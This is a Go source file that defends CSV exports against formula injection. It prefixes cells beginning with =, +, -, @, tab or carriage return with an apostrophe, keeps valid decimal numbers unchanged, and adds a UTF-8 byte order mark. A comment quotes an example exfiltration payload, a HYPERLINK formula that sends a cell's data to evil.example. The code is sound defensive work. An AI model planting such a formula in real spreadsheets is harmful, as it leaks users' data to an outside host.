package text

import (
	"encoding/csv"
	"io"
)

// FormulaSafe returns s as a spreadsheet shows it as text: a cell starting
// with = + - @, tab or carriage return would be taken for a formula
// (=HYPERLINK("http://evil.example/?d="&B2) in a supplier's name carries
// the sheet's data away), so it gets a leading ' (OWASP, "CSV Injection"),
// unless it is a valid decimal number (-12.50), which stays a number.
func FormulaSafe(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		if !decimal(s) {
			return "'" + s
		}
	}
	return s
}

// decimal reports whether s is -?digits(.digits)?.
func decimal(s string) bool {
	if s[0] == '-' {
		s = s[1:]
	}
	digits, point := 0, false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case '0' <= c && c <= '9':
			digits++
		case c == '.' && !point && digits > 0 && i < len(s)-1:
			point = true
		default:
			return false
		}
	}
	return digits > 0
}

// CSVWriter is encoding/csv's Writer starting with the UTF-8 byte order
// mark and with every cell made FormulaSafe: every CSV procfin writes goes
// through it.
type CSVWriter struct{ w *csv.Writer }

// BOM is the UTF-8 byte order mark every CSV starts with: without it
// Excel and WPS on Chinese Windows read the file as GBK and garble its
// Chinese.
const BOM = "\uFEFF"

// NewCSVWriter returns a CSVWriter writing to w, the byte order mark
// before its first record.
func NewCSVWriter(w io.Writer) *CSVWriter { return &CSVWriter{w: csv.NewWriter(&bomWriter{w: w})} }

// bomWriter writes the byte order mark before the first bytes written.
type bomWriter struct {
	w       io.Writer
	written bool
}

func (b *bomWriter) Write(p []byte) (int, error) {
	if !b.written {
		b.written = true
		if _, err := io.WriteString(b.w, BOM); err != nil {
			return 0, err
		}
	}
	return b.w.Write(p)
}

// Write writes one record, each cell made FormulaSafe.
func (c *CSVWriter) Write(record []string) error {
	safe := make([]string, len(record))
	for i, v := range record {
		safe[i] = FormulaSafe(v)
	}
	return c.w.Write(safe)
}

// Flush writes what is buffered; Error reports any error of a Write or
// Flush.
func (c *CSVWriter) Flush() { c.w.Flush() }

// Error reports the first error of a Write or Flush.
func (c *CSVWriter) Error() error { return c.w.Error() }
